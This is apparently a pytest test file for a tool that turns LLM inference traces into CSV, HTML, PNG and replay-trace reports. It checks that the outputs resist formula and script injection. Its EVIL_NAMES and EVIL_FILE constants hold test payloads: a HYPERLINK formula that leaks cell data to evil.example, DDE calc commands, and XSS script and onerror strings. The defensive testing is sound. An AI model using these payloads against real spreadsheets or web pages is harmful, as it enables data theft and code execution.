"""The report bundle: safe CSVs, real PNGs, a self-contained and injection-proof HTML memo, replay traces.

Real data: Azure LLM 2023 conversation + code logs as two products, the Mooncake conversation trace (prefix
hashes), the Vidur arXiv length distribution (no timestamps). PNG tests start one browser each (seconds): few.
"""
from __future__ import annotations

import html
import io
import json
import re
import shutil
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from shapeviz.analysis import analyze
from shapeviz.ingest import load_logs
from shapeviz.ingest import load_log
from shapeviz.outputs import report
from shapeviz.serving import WhatIf

AZURE_CONV = "azure_llm_2023/AzureLLMInferenceTrace_conv.csv"
AZURE_CODE = "azure_llm_2023/AzureLLMInferenceTrace_code.csv"
MOONCAKE = "mooncake_fast25/conversation_trace.jsonl.gz"
VIDUR = "vidur_arxiv_summarization/arxiv_summarization_stats_llama2_tokenizer_filtered_v2.csv"

# What a spreadsheet or a browser would run if a report let it through.
EVIL_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
)
EVIL_FILE = '"><svg onload=alert(1)>.csv'  # the file name is user data too
WHATIF = WhatIf(trim_input=0.3, trim_output=0.5, traffic_multiplier=2.0)

_cache: dict[str, object] = {}


def _memo(key: str, build):  # noqa: ANN001, ANN202 - a module-level cache: the analyses run once per file
    if key not in _cache:
        _cache[key] = build()
    return _cache[key]


@pytest.fixture
def azure(trace):  # noqa: ANN001, ANN201
    """Azure conversation + code as two products."""
    paths = [trace(AZURE_CONV), trace(AZURE_CODE)]
    return _memo("azure", lambda: load_logs(paths))


@pytest.fixture
def azure_bundle(azure) -> report.Bundle:
    """The Azure bundle with a what-if (trim input 30 %, output 50 %, traffic ×2), without PNGs."""
    return _memo("azure_bundle", lambda: report.report_files(azure, whatif=WHATIF, png=False))


@pytest.fixture
def evil(trace):  # noqa: ANN001, ANN201
    """Real Azure requests whose model column (hence product names) holds formula and script injections."""
    raw = pd.read_csv(trace(AZURE_CONV), nrows=4000)
    raw["model"] = [EVIL_NAMES[i % len(EVIL_NAMES)] for i in range(len(raw))]
    data = raw.to_csv(index=False).encode("utf-8")
    return _memo("evil", lambda: load_log(data, name=EVIL_FILE))


@pytest.fixture
def evil_bundle(evil) -> report.Bundle:
    return _memo("evil_bundle", lambda: report.report_files(evil, png=False))


def _csv(bundle: report.Bundle, name: str) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(bundle.files[name]))


# --- CSV ------------------------------------------------------------------------------------------------------
def test_safe_csv_neutralises_formulas_in_cells_and_headers_and_keeps_numbers() -> None:
    frame = pd.DataFrame({
        "=cmd()": ["=1+1", "+A1", "-A1+2", "@SUM(A1)", "\tx", "\rx", "plain", "-5", None],
        "delta": [-1.5, -2, 3, 0, -1e9, 2, 1, 0.5, np.nan],
        "product": pd.Categorical(["=bad", "ok", "=bad", "ok", "ok", "ok", "ok", "ok", None]),
    })
    back = pd.read_csv(io.BytesIO(report.safe_csv_bytes(frame)), keep_default_na=False)
    assert list(back.columns) == ["'=cmd()", "delta", "product"]
    text = back["'=cmd()"].tolist()
    assert text[:6] == ["'=1+1", "'+A1", "'-A1+2", "'@SUM(A1)", "'\tx", "'\rx"]
    assert text[6:8] == ["plain", "-5"]  # a plain number cannot be a formula: it stays a number
    numbers = pd.read_csv(io.BytesIO(report.safe_csv_bytes(frame)))["delta"]
    assert pd.api.types.is_float_dtype(numbers)
    assert numbers.iloc[:8].tolist() == [-1.5, -2, 3, 0, -1e9, 2, 1, 0.5]  # negatives stay numbers
    assert back["product"].tolist()[:2] == ["'=bad", "ok"]
    # no cell of the file starts a formula
    rows = report.safe_csv_bytes(frame).decode("utf-8")
    assert not re.search(r"(^|,)[=+@]", rows, flags=re.M)


def test_write_csv_writes_the_safe_bytes(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": ["=x"], "value": [-3]})
    path = report.write_csv(frame, tmp_path / "t.csv")
    assert path.read_bytes() == report.safe_csv_bytes(frame)
    assert pd.read_csv(path)["value"].tolist() == [-3]


def test_bundle_csvs_round_trip_through_pandas(azure, azure_bundle: report.Bundle) -> None:
    analysis = analyze(azure)
    products = _csv(azure_bundle, "shapes_per_product.csv")
    assert products["product"].tolist() == ["overall", "AzureLLMInferenceTrace_conv", "AzureLLMInferenceTrace_code"]
    assert products["requests"].tolist() == [len(azure.frame), 19_366, 8_819]
    assert (products["input_p50"] <= products["input_p90"]).all()
    clusters = _csv(azure_bundle, "clusters.csv")
    assert len(clusters) == len(analysis.clusters.clusters)
    assert clusters["share_of_requests"].sum() == pytest.approx(1.0, abs=1e-6)
    plan = _csv(azure_bundle, "capacity_plan.csv").set_index("figure")
    assert float(plan.loc["request rate", "after"]) == pytest.approx(2 * float(plan.loc["request rate", "before"]))
    assert plan.loc["request rate", "source"] == "assumed"  # ×2 is the user's what-if, not a measurement
    assert set(plan["source"]) <= {"measured", "estimated", "assumed"}
    recs = _csv(azure_bundle, "recommendations.csv")
    assert len(recs) == len(analysis.recommendations) > 0
    assert recs["rank"].tolist() == list(range(1, len(recs) + 1))
    load = _csv(azure_bundle, "load_report.csv")
    rows = load[load["section"] == "rows"].set_index("item")["value"].astype(int)
    assert rows["read"] == azure.report.rows_read and rows["kept"] == azure.report.rows_kept


def test_product_name_injection_is_neutralised_in_every_csv(evil, evil_bundle: report.Bundle) -> None:
    assert set(map(str, evil.frame["product"].cat.categories)) == set(EVIL_NAMES)
    products = _csv(evil_bundle, "shapes_per_product.csv")
    names = [n for n in products["product"] if n != "overall"]
    assert len(names) == len(EVIL_NAMES)
    for name in names:
        assert not name.startswith(("=", "+", "-", "@")), name
    assert {n.lstrip("'") for n in names} == set(EVIL_NAMES)
    seen = 0
    for csv_name in [n for n in evil_bundle.files if n.endswith(".csv")]:
        cells = pd.read_csv(io.BytesIO(evil_bundle.files[csv_name]), header=None, dtype=str, keep_default_na=False)
        for cell in cells.to_numpy().ravel():
            if cell.startswith(report.FORMULA_PREFIXES):  # only plain numbers may start like a formula
                assert re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell), (csv_name, cell)
            seen += any(n in cell for n in EVIL_NAMES)
    assert seen >= len(EVIL_NAMES)  # the names are there, as inert text


# --- HTML ----------------------------------------------------------------------------------------------------
class _Tags(HTMLParser):
    """Real tags of a page (script contents are not parsed as tags), their attributes and the style text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)


def _parse(page: str) -> _Tags:
    parser = _Tags()
    parser.feed(page)
    return parser


def _figure_json(page: str) -> dict[str, dict]:
    blocks = re.findall(r'<script type="application/json" id="(fig-[a-z_]+)-json">(.*?)</script>', page, flags=re.S)
    return {name: json.loads(text) for name, text in blocks}


def test_html_memo_is_self_contained_with_every_chart_and_plotly_once(azure_bundle: report.Bundle) -> None:
    from plotly.offline import get_plotlyjs

    page = azure_bundle.files["report.html"].decode("utf-8")
    banner = get_plotlyjs()[:120]
    assert page.count(banner) == 1  # plotly.js inline exactly once, not per chart
    figures = _figure_json(page)
    assert set(figures) == {"fig-plane", "fig-clusters", "fig-pressure", "fig-latency_vs_load", "fig-rate_over_time",
                            "fig-fleet_over_time"}
    for name, spec in figures.items():
        assert spec["data"], name
        assert f'<div class="chart" id="{name}" data-figure="{name}-json"></div>' in page
    parsed = _parse(page)
    scripts = [attrs for tag, attrs in parsed.tags if tag == "script"]
    assert len(scripts) == len(figures) + 2  # the figures' JSON, plotly.js, the renderer
    assert all("src" not in attrs for attrs in scripts)
    assert not any(tag == "link" for tag, _ in parsed.tags)
    for tag, attrs in parsed.tags:
        for key in ("src", "href", "action", "data", "poster"):
            value = (attrs.get(key) or "").strip().lower()
            assert not value.startswith(("http:", "https:", "//")), (tag, key, value)
    style = "".join(parsed.styles)
    assert "@import" not in style and "url(" not in style and "@font-face" not in style


def test_html_memo_reads_decision_first_with_provenance_and_assumptions(azure, azure_bundle: report.Bundle) -> None:
    page = azure_bundle.files["report.html"].decode("utf-8")
    order = [page.index(f'id="{anchor}"') for anchor in
             ("decision", "plane", "clusters", "pressure", "cost", "recommendations", "assumptions")]
    assert order == sorted(order)
    decision = page[page.index('id="decision"'): page.index('id="figures"')]
    plan = _csv(azure_bundle, "capacity_plan.csv").set_index("figure")
    before, after = plan.loc["GPUs colocated", "before"], plan.loc["GPUs colocated", "after"]
    assert f"GPUs: {int(float(before)):,} → {int(float(after)):,}" in decision
    assert "SLO" in decision and "What to do first" in decision
    for kind in ("measured", "estimated", "assumed"):
        assert f'class="tag {kind}"' in page
    assumptions = page[page.index('id="assumptions"'):]
    for needle in ("Llama-3.1-70B", "H100", "TP 2", "TTFT 1,000 ms", "mfu", "rows", "prefix cache", "rate"):
        assert needle in assumptions, needle
    assert f"{azure.report.rows_read:,} read" in assumptions


def _without_plotlyjs(page: str) -> str:
    """The page minus the inline plotly.js library (which has markup of its own inside JS strings)."""
    from plotly.offline import get_plotlyjs

    library = get_plotlyjs()
    assert page.count(library) == 1
    return page.replace(library, "")


def test_html_escapes_user_strings_everywhere_including_figure_json(evil_bundle: report.Bundle) -> None:
    page = _without_plotlyjs(evil_bundle.files["report.html"].decode("utf-8"))
    for name in (*EVIL_NAMES, EVIL_FILE):
        raw = name in page
        assert not raw, f"raw user string in the page: {name!r}"  # not even inside the figure JSON
        shown = html.escape(name) in page
        assert shown, f"user string not shown as text: {name!r}"
    lowered = page.lower()
    for markup in ("</script><script>alert", "<img", "<svg", "onerror=alert(1)>"):
        found = markup in lowered
        assert not found, markup
    parsed = _parse(page)
    figures = _figure_json(page)
    assert sum(1 for tag, _ in parsed.tags if tag == "script") == len(figures) + 2  # nothing broke out
    assert not any(tag in ("img", "svg", "iframe", "object", "embed") for tag, _ in parsed.tags)
    legend = {t.get("name") for t in figures["fig-plane"]["data"]}
    for name in EVIL_NAMES:
        assert html.escape(name, quote=False) in legend  # plotly shows it as typed, never as markup


# --- determinism, files -----------------------------------------------------------------------------------------
def test_bundle_is_byte_identical_for_the_same_input(azure, azure_bundle: report.Bundle) -> None:
    again = report.report_files(azure, whatif=WHATIF, png=False)
    first, second = azure_bundle.zip(), again.zip()
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        names = archive.namelist()
        assert names[0] == "README.txt" and "report.html" in names
        assert {info.date_time for info in archive.infolist()} == {report.ZIP_DATE}
        assert archive.read("replay_mooncake.jsonl") == azure_bundle.files["replay_mooncake.jsonl"]
    assert "PNG charts were not requested" in azure_bundle.files["README.txt"].decode("utf-8")


def test_write_report_writes_the_bundle_files(azure, tmp_path: Path) -> None:
    paths = report.write_report(azure, tmp_path / "out", whatif=WHATIF, png=False)
    bundle = _cache.get("azure_bundle") or report.report_files(azure, whatif=WHATIF, png=False)
    assert [p.name for p in paths] == list(bundle.files)
    for path in paths:
        assert path.read_bytes() == bundle.files[path.name]


# --- replay traces ----------------------------------------------------------------------------------------------
def _expected(values: pd.Series, trim: float) -> np.ndarray:
    return np.maximum(np.floor(values.to_numpy(dtype=np.float64) * (1 - trim) + 0.5), 1).astype(np.int64)


def test_replay_jsonl_round_trips_through_ingest_with_the_whatif_applied(azure, azure_bundle: report.Bundle) -> None:
    data = azure_bundle.files["replay_mooncake.jsonl"]
    replayed = load_log(data, name="replay_mooncake.jsonl")
    assert replayed.report.rows_read == replayed.report.rows_kept == len(azure.frame)
    order = np.argsort(azure.frame["timestamp"].to_numpy(), kind="stable")
    source = azure.frame.iloc[order]
    np.testing.assert_array_equal(replayed.frame["input_tokens"].to_numpy(), _expected(source["input_tokens"], 0.3))
    np.testing.assert_array_equal(replayed.frame["output_tokens"].to_numpy(), _expected(source["output_tokens"], 0.5))
    # ×2 traffic: the same requests, arrivals twice as dense
    span = lambda ts: (ts.max() - ts.min()).total_seconds()  # noqa: E731
    assert span(replayed.frame["timestamp"]) == pytest.approx(span(azure.frame["timestamp"]) / 2, abs=0.002)
    first = json.loads(data.split(b"\n", 1)[0])
    assert list(first) == ["timestamp", "input_length", "output_length"] and first["timestamp"] == 0
    vidur = pd.read_csv(io.BytesIO(azure_bundle.files["replay_vidur.csv"]))
    assert list(vidur.columns) == ["arrived_at", "num_prefill_tokens", "num_decode_tokens"]
    assert vidur["arrived_at"].is_monotonic_increasing
    lines = [json.loads(x) for x in data.splitlines()[:500]]
    np.testing.assert_allclose(vidur["arrived_at"].iloc[:500], [x["timestamp"] / 1000 for x in lines])
    np.testing.assert_array_equal(vidur["num_prefill_tokens"], replayed.frame["input_tokens"])


def test_replay_keeps_hash_ids_without_input_trim_and_drops_them_with_it(trace) -> None:  # noqa: ANN001
    log = _memo("mooncake", lambda: load_log(trace(MOONCAKE)))
    kept = report.replay_trace(log.frame, WhatIf(trim_output=0.2))
    lines = report.replay_jsonl(kept).splitlines()
    assert len(lines) == len(log.frame)
    back = load_log(report.replay_jsonl(kept), name="replay.jsonl").frame
    order = np.argsort(log.frame["timestamp"].to_numpy(), kind="stable")
    for i in (0, 1, len(order) // 2, len(order) - 1):
        np.testing.assert_array_equal(back["hash_ids"].iloc[i], log.frame["hash_ids"].iloc[order[i]])
    np.testing.assert_array_equal(back["input_tokens"], log.frame["input_tokens"].to_numpy()[order])
    trimmed = report.replay_trace(log.frame, WhatIf(trim_input=0.2))
    assert b"hash_ids" not in report.replay_jsonl(trimmed)
    assert any("hash_ids are omitted" in note for note in trimmed.notes)


def test_mooncake_bundle_carries_hash_ids_and_says_how_prefix_reuse_was_found(trace) -> None:  # noqa: ANN001
    log = _memo("mooncake", lambda: load_log(trace(MOONCAKE)))
    bundle = report.report_files(log, whatif=WhatIf(trim_output=0.1), png=False)
    first = json.loads(bundle.files["replay_mooncake.jsonl"].split(b"\n", 1)[0])
    assert list(first) == ["timestamp", "input_length", "output_length", "hash_ids"] and first["hash_ids"]
    assert "hash_ids (prefix-block hashes) are the log's" in bundle.files["README.txt"].decode("utf-8")
    page = bundle.files["report.html"].decode("utf-8")
    analysis = analyze(log)
    assert analysis.prefix.method == "block_hashes"
    assert f"{analysis.prefix.hit_ratio_tokens:.1%} of input tokens (block hashes)" in page
    assert "prefix cache</td><td>block hashes (simulated)" in page


def test_replay_without_timestamps_gets_seeded_poisson_arrivals_at_the_plan_rate(trace) -> None:  # noqa: ANN001
    log = _memo("vidur", lambda: load_log(trace(VIDUR)))
    assert "timestamp" not in log.frame.columns
    replay = report.replay_trace(log.frame, WhatIf(traffic_multiplier=3.0), rate_rps=12.0, seed=7)
    gaps = np.diff(replay.timestamp_ms) / 1000.0
    assert len(replay) == len(log.frame) and (gaps >= 0).all()
    assert 1.0 / gaps.mean() == pytest.approx(12.0, rel=0.03)  # 28k exponential gaps: ±3 % is 5 sigma
    assert np.std(gaps) / np.mean(gaps) == pytest.approx(1.0, abs=0.05)  # exponential: CV 1
    again = report.replay_trace(log.frame, WhatIf(traffic_multiplier=3.0), rate_rps=12.0, seed=7)
    np.testing.assert_array_equal(replay.timestamp_ms, again.timestamp_ms)
    np.testing.assert_array_equal(replay.input_tokens, log.frame["input_tokens"].to_numpy())  # log order kept
    assert any("Poisson" in note and "seed 7" in note for note in replay.notes)
    with pytest.raises(ValueError, match="rate_rps"):
        report.replay_trace(log.frame, WhatIf())
    csv = report.replay_vidur_csv(replay)
    assert load_log(csv, name="replay_vidur.csv").frame["input_tokens"].sum() == log.frame["input_tokens"].sum()


# --- PNG ---------------------------------------------------------------------------------------------------------


def test_pngs_are_real_images_of_the_expected_size(azure, chromium) -> None:  # noqa: ANN001
    bundle = report.report_files(azure, whatif=WHATIF, png=True)
    heights = {"plane": 640, "clusters": 600, "pressure": 360, "latency_vs_load": 380, "rate_over_time": 320,
               "fleet_over_time": 420}
    pngs = {n: d for n, d in bundle.files.items() if n.endswith(".png")}
    assert set(pngs) == {f"{n}.png" for n in heights}
    page = _figure_json(bundle.files["report.html"].decode("utf-8"))
    for name, data in pngs.items():
        stem = name[:-4]
        height = page[f"fig-{stem}"]["layout"].get("height", heights[stem])
        assert report.png_size(data) == (report.PNG_WIDTH * report.PNG_SCALE, height * report.PNG_SCALE), name
        assert len(data) > 20_000, name  # a drawn chart, not an empty canvas
    assert not bundle.notes


def test_without_a_browser_png_export_fails_in_one_line_and_the_rest_still_builds(azure, monkeypatch) -> None:  # noqa: ANN001
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    with pytest.raises(ValueError, match="install the `chromium` package") as excinfo:
        report.figures_to_png({"x": __import__("plotly.graph_objects").graph_objects.Figure()})
    assert "\n" not in str(excinfo.value)
    bundle = report.report_files(azure, png=True)
    assert not any(n.endswith(".png") for n in bundle.files)
    for name in ("report.html", "shapes_per_product.csv", "replay_mooncake.jsonl", "replay_vidur.csv"):
        assert bundle.files[name]
    readme = bundle.files["README.txt"].decode("utf-8")
    assert "No PNG charts in this bundle" in readme and "chromium" in readme


class _FlakyKaleido:
    """Stands in for kaleido.Kaleido: the first session fails like the flake seen under load."""

    sessions = 0
    fail_sessions = 1

    def __init__(self, **kwargs: object) -> None:
        type(self).sessions += 1
        self.failing = type(self).sessions <= type(self).fail_sessions

    async def __aenter__(self) -> "_FlakyKaleido":
        return self

    async def __aexit__(self, *exc: object) -> None:
        return None

    async def calc_fig(self, fig: object, opts: dict) -> bytes:
        from kaleido.errors import JavascriptError

        if self.failing:
            raise JavascriptError("ReferenceError: kaleido_scopes is not defined")
        return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + opts["width"].to_bytes(4, "big") + opts["height"].to_bytes(4, "big")


def test_png_export_retries_once_on_a_javascript_flake(monkeypatch) -> None:  # noqa: ANN001
    import kaleido
    import plotly.graph_objects as go

    monkeypatch.setenv("BROWSER_PATH", shutil.which("python3") or shutil.which("python") or "/bin/sh")
    monkeypatch.setattr(kaleido, "Kaleido", _FlakyKaleido)
    _FlakyKaleido.sessions, _FlakyKaleido.fail_sessions = 0, 1
    figs = {"a": go.Figure(layout_height=300), "b": go.Figure(layout_height=200)}
    out = report.figures_to_png(figs, width=100, scale=1)
    assert _FlakyKaleido.sessions == 2
    assert [report.png_size(out[k]) for k in ("a", "b")] == [(100, 300), (100, 200)]
    _FlakyKaleido.sessions, _FlakyKaleido.fail_sessions = 0, 2
    with pytest.raises(ValueError, match="failed after a retry.*kaleido_scopes is not defined"):
        report.figures_to_png(figs, width=100, scale=1)
    assert _FlakyKaleido.sessions == 2  # one retry, not a loop
